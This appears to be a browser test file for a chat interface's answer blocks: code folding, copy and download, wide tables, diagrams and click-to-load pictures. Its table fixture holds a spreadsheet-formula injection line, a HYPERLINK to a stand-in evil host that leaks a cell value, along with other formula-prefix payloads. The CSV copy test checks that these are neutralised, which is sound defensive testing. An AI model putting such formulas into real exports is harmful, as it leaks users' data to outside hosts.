"""What a person does with the blocks of an answer: long code, wide tables."""

from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ChatPage
from tests.support.picture_host import Host, made

LINES = "".join(f"value_{n} = {n}  # {'words ' * 30}\n" for n in range(60))


@pytest.fixture
def clipboard(chat: ChatPage):
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    return lambda: chat.page.evaluate("navigator.clipboard.readText()")


def test_long_code_is_open_while_it_is_written_and_folded_when_it_is_read_later(chat, model):
    steps = model.says_in_steps(
        f"```python:src/sum.py\n{LINES}", "last = 1\n```\n\nThat is it.\n\n", "The end."
    )
    chat.say("Write a program")
    code = chat.answer.locator(".code")
    expect(code).to_contain_text("value_59")
    assert code.locator("pre .k, pre .mi").count() > 50  # colours come with the lines
    height = "(code) => code.querySelector('pre').clientHeight"
    before = code.evaluate(height)
    steps.go_on()
    expect(chat.answer).to_contain_text("That is it.")
    less = code.get_by_role("button", name="Show less")
    expect(less).to_have_attribute("aria-expanded", "true")
    assert before < code.evaluate(height) < before + 40  # a line more, not folded
    # Folded by its reader it stays so, whatever comes
    less.click()
    more = code.get_by_role("button", name="Show all 61 lines")
    expect(more).to_have_attribute("aria-expanded", "false")
    steps.go_on(2)
    chat.ended()
    expect(more).to_be_visible()
    chat.reload().live()
    assert code.evaluate(height) < 500
    # What is found in the folded part shows it
    code.locator("pre").evaluate("(pre) => (pre.scrollTop = 200)")
    expect(less).to_be_visible()


def test_the_bar_of_code_stays_in_view_and_copies_downloads_and_wraps(chat, model, clipboard):
    model.says(f"```python:src/sum.py\n{LINES}```\n")
    chat.ask("Write a program")
    code = chat.answer.locator(".code")
    chat.log.hover()
    chat.page.mouse.wheel(0, 500)
    # The bar stays in view while its code goes by
    bar = code.locator(".code-bar")
    chat.until("document.querySelector('.code').getBoundingClientRect().top < 0")
    expect(bar).to_be_in_viewport(ratio=1)
    copy = code.get_by_role("button", name="Copy code")
    copy.click()
    expect(copy.locator(".icon").last).to_be_visible()
    expect(copy.locator(".icon").first).to_be_hidden()
    expect(chat.toast).to_have_text("Copied")
    assert clipboard() == LINES.rstrip("\n")
    with chat.page.expect_download() as download:
        code.get_by_role("button", name="Download").click()
    assert download.value.suggested_filename == "sum.py"
    assert Path(download.value.path()).read_text(encoding="utf-8") == LINES
    wrap = code.get_by_role("button", name="Wrap lines")
    is_cut = "(code) => { const { scrollWidth, clientWidth } = code.querySelector('pre'); return scrollWidth > clientWidth }"
    assert code.evaluate(is_cut)
    wrap.click()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert not code.evaluate(is_cut)
    chat.reload()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert not code.evaluate(is_cut)
    chat.page.emulate_media(media="print")
    assert code.locator("pre").evaluate("(pre) => pre.clientHeight") > 1000
    expect(wrap).to_be_hidden()


TABLE = """| Name | Sum | Note | A | B | C | D | E | F | G | H |
|---|--:|---|---|---|---|---|---|---|---|---|
| **one**, or "1" | -5 | =HYPERLINK("http://evil.example/?"&A1) | a | b | c | d | e | f | g | h |
| $x^2$ | +1.5 | @SUM(1) | - | `-x` |
"""


def test_a_table_uses_the_free_width_and_is_copied_as_markdown_or_for_a_spreadsheet(chat, model, clipboard):
    model.says(TABLE)
    chat.ask("A table")
    table = chat.answer.locator(".table")
    width = "(node) => node.getBoundingClientRect().width"
    assert table.evaluate(width) > chat.body.evaluate(width) + 50
    assert table.evaluate("(node) => node.scrollWidth > node.clientWidth")
    assert not chat.log.evaluate("(node) => node.scrollWidth > node.clientWidth")
    csv = table.get_by_role("button", name="Copy as CSV")
    chat.box.hover()
    expect(table.locator(".table-bar")).to_have_css("opacity", "0")
    csv.focus()
    expect(table.locator(".table-bar")).to_have_css("opacity", "1")
    csv.press("Enter")
    expect(chat.toast).to_have_text("Copied")
    assert clipboard().split("\r\n") == [
        "Name,Sum,Note,A,B,C,D,E,F,G,H",
        """\"one, or ""1""\",-5,\"'=HYPERLINK(""http://evil.example/?""&A1)\",a,b,c,d,e,f,g,h""",
        "$x^2$,+1.5,'@SUM(1),-,'-x,,,,,,",
    ]
    table.get_by_role("button", name="Copy as Markdown").click()
    expect(table.locator(".done")).to_have_count(2)
    lines = clipboard().split("\n")
    assert lines[0].startswith("| Name | Sum | Note |")
    assert lines[1].startswith("| --- | ---: | --- |")
    assert lines[2].startswith('| **one**, or "1" | -5 |')


def test_a_diagram_is_drawn_when_it_has_ended_and_its_source_stays_as_its_reader_has_it(chat, model):
    drawn = "```mermaid\nflowchart TD\nA[Start] --> B[End]\n```\n\n"
    wrong = "```mermaid\nflowchart ???\n```\n\n"
    steps = model.says_in_steps(drawn[:40], f"{drawn[40:]}{wrong}Words.\n\n", "The end.")
    chat.say("Draw it")
    code = chat.answer.locator(".code").first
    expect(code.locator("pre")).to_contain_text("A[Start]")
    steps.go_on()
    drawing = code.get_by_role("img", name="Mermaid: Start, End")
    expect(drawing).to_be_visible()
    expect(code.locator("pre")).to_be_hidden()
    source = code.get_by_role("button", name="Show source")
    source.click()
    expect(code.locator("pre")).to_be_visible()
    steps.go_on(2)
    chat.ended()
    expect(code.get_by_role("button", name="Hide source")).to_have_attribute("aria-expanded", "true")
    expect(code.locator("pre")).to_be_visible()
    failed = chat.answer.locator(".code").last
    expect(failed.get_by_text("Couldn’t draw this diagram")).to_be_visible()
    expect(failed.locator("pre")).to_be_visible()
    fill = "(box) => getComputedStyle(box).fill"
    by_day = drawing.locator("rect").first.evaluate(fill)
    chat.page.emulate_media(color_scheme="dark")
    assert drawing.locator("rect").first.evaluate(fill) != by_day


def test_a_picture_is_shown_in_place_when_it_is_asked_for_and_not_before(chat, model, faults):
    host = Host()
    address = host.serve("/chart.png", made("PNG"))
    model.says(f"![no address](http://[x/a.png), ![A chart]({address}) and ![gone]({host.origin}/gone.png)\n")
    chat.ask("Show me")
    show = chat.answer.get_by_role("button", name="Show picture from 127.0.0.1")
    expect(show).to_have_count(2)
    assert host.asked == []
    faults.expect("502")
    show.last.click()
    expect(chat.toast).to_contain_text("couldn’t be loaded")
    show.first.click()
    picture = chat.answer.get_by_role("img", name="A chart (127.0.0.1)")
    expect(picture).to_be_visible()
    assert picture.evaluate("(img) => img.naturalWidth") == 400
    expect(show).to_have_count(1)
    chat.reload()
    expect(show).to_have_count(2)
    host.close()
